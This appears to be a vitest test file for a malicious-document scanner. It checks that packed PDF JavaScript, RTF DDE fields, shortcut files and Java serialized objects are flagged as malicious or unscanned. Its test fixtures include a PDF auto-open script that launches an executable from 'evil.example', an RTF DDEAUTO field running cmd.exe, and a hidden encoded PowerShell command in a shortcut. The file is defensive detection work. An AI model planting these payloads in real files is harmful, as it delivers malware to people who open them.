/** What a reader of documents does not read is said, and never counts as clean. */
import { deflateSync } from 'node:zlib';
import { expect, test } from 'vitest';
import { MAX_READ } from '../../../src/supply/contract.ts';
import { bufferInput } from '../../../src/supply/input.ts';
import { unlzw } from '../../../src/supply/pdf/filters.ts';
import { scanInput } from '../../../src/supply/scan.ts';

const verdictOf = (name: string, content: Buffer | string): string => scanInput(bufferInput(name, typeof content === 'string' ? Buffer.from(content, 'latin1') : content), name).verdict;

/** A PDF of the given objects, without a table: readers look for the objects then. */
const pdf = (...objects: readonly string[]): string => `%PDF-1.7\n${objects.map((object, i) => `${i + 1} 0 obj\n${object}\nendobj\n`).join('')}trailer\n<< /Root 1 0 R >>\n%%EOF\n`;
const stream = (dictionary: string, bytes: string): string => `<< ${dictionary} /Length ${bytes.length} >>\nstream\n${bytes}\nendstream`;
const CALL = 'app.launchURL("https://evil.example/x.exe", true);';
const catalog = '<< /Type /Catalog /OpenAction << /S /JavaScript /JS 2 0 R >> >>';

test('a script that is packed in a way that is not read is no clean document', () => {
  expect(verdictOf('a.pdf', pdf(catalog, stream('', CALL)))).toBe('malicious');
  expect(verdictOf('a.pdf', pdf(catalog, stream('/Filter /LZWDecode', '\x80\x7f\xff\xff\xff')))).toBe('unscanned');
  expect(verdictOf('a.pdf', pdf(catalog, stream('/Filter /JBIG2Decode', CALL)))).toBe('unscanned');
  expect(verdictOf('a.pdf', pdf(catalog, stream('/Filter /FlateDecode', 'no zlib at all')))).toBe('unscanned');
});

/** LZW as PDF has it, for short texts and long ones. */
function lzw(text: string, early: boolean): Buffer {
  let bits = '';
  let table = new Map<string, number>();
  let width = 9;
  const put = (code: number): void => { bits += code.toString(2).padStart(width, '0'); };
  const clear = (): void => {
    put(256);
    table = new Map(Array.from({ length: 256 }, (_, i) => [String.fromCharCode(i), i]));
    width = 9;
  };
  clear();
  let next = 258;
  let held = '';
  for (const letter of text) {
    if (table.has(held + letter)) {
      held += letter;
      continue;
    }
    put(table.get(held) ?? 0);
    table.set(held + letter, next++);
    if (next + (early ? 0 : -1) >= 1 << width) width++;
    if (next >= 4094) {
      clear();
      next = 258;
    }
    held = letter;
  }
  put(table.get(held) ?? 0);
  if (next + (early ? 1 : 0) >= 1 << width && width < 12) width++;
  put(257);
  return Buffer.from((bits.match(/.{1,8}/g) ?? []).map((byte) => Number.parseInt(byte.padEnd(8, '0'), 2)));
}

test('what LZW and runs pack is read', () => {
  expect(unlzw(Buffer.from('800b6050220c0c8501', 'hex'), true, 100)?.toString('latin1')).toBe('-----A---B'); // the example of ISO 32000-1
  const long = Array.from({ length: 9_000 }, (_, i) => `${i * 7919 % 10_007} `).join('');
  for (const early of [true, false]) for (const text of ['a', 'aaaaaaaaaaaaaaaaaaaa', CALL, long]) expect(unlzw(lzw(text, early), early, 1_000_000)?.toString('latin1')).toBe(text);
  expect(unlzw(lzw(long, true), true, 1_000)).toBeUndefined();
  expect(verdictOf('a.pdf', pdf(catalog, stream('/Filter /LZWDecode', lzw(CALL, true).toString('latin1'))))).toBe('malicious');
  expect(verdictOf('a.pdf', pdf(catalog, stream('/Filter /LZWDecode', lzw('this.print();', true).toString('latin1'))))).toBe('benign');
  expect(verdictOf('a.pdf', pdf(catalog, stream('/Filter [/LZWDecode] /DecodeParms [<< /EarlyChange 0 >>]', lzw(`/* ${long} */${CALL}`, false).toString('latin1'))))).toBe('malicious');
  expect(verdictOf('a.pdf', pdf(catalog, stream('/Filter /RunLengthDecode', `${String.fromCharCode(CALL.length - 1)}${CALL}\xf6 \x80`)))).toBe('malicious');
});

test('a script under more layers than are taken off is no clean document', () => {
  let bytes = deflateSync(Buffer.from(CALL));
  for (let i = 0; i < 4; i++) bytes = deflateSync(bytes);
  expect(verdictOf('a.pdf', pdf(catalog, stream(`/Filter [${'/FlateDecode '.repeat(5)}]`, bytes.toString('latin1'))))).toBe('unscanned');
});

test('objects that are packed together in a way that is not read are said', () => {
  expect(verdictOf('a.pdf', pdf('<< /Type /Catalog >>', stream('/Type /ObjStm /N 1 /First 4 /Filter /JBIG2Decode', '\x80\x0b\x60')))).toBe('unscanned');
});

test('a picture in a document need not be unpacked', () => {
  expect(verdictOf('a.pdf', pdf('<< /Type /Catalog >>', stream('/Type /XObject /Subtype /Image /Filter /DCTDecode', '\xff\xd8\xff')))).toBe('benign');
});

test('more files in a document than are looked into are said', () => {
  expect(verdictOf('a.pdf', pdf('<< /Type /Catalog >>', ...Array.from({ length: 101 }, () => stream('/Type /EmbeddedFile', 'hello'))))).toBe('unscanned');
});

test('a field that starts a program is seen across the pieces that a long text is read in', () => {
  const field = '{\\field{\\*\\fldinst DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"}}';
  for (const before of [0, 5, 20, field.length - 5]) expect(verdictOf('a.rtf', `{\\rtf1 ${'a'.repeat(MAX_READ - 7 - before)}${field}}`)).toBe('malicious');
});

test('no number of texts in a shortcut hides its command', () => {
  const magic = Buffer.from('4c0000000114020000000000c000000000000046', 'hex');
  const command = Buffer.from('powershell -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA', 'utf16le');
  expect(verdictOf('a.lnk', Buffer.concat([magic, Buffer.alloc(56), command]))).toBe('malicious');
  expect(verdictOf('a.lnk', Buffer.concat([magic, Buffer.alloc(56), Buffer.from('word\0'.repeat(2_500)), Buffer.alloc(1), command]))).toBe('malicious');
  expect(verdictOf('a.lnk', Buffer.concat([magic, Buffer.alloc(300 * 1024), command]))).toBe('unscanned');
});

test('objects of Java beyond what is searched are said', () => {
  const text = Buffer.from('\xac\xed\0\x05sr\0\x10java.lang.String\0\0\0\0\0\0\0\x01\x02\0\0xp', 'latin1');
  expect(verdictOf('a.ser', text)).toBe('benign');
  expect(verdictOf('a.ser', text.subarray(0, 24))).toBe('suspicious');
  expect(verdictOf('a.ser', Buffer.concat([text, Buffer.alloc(65 * 1024 * 1024)]))).toBe('unscanned');
});
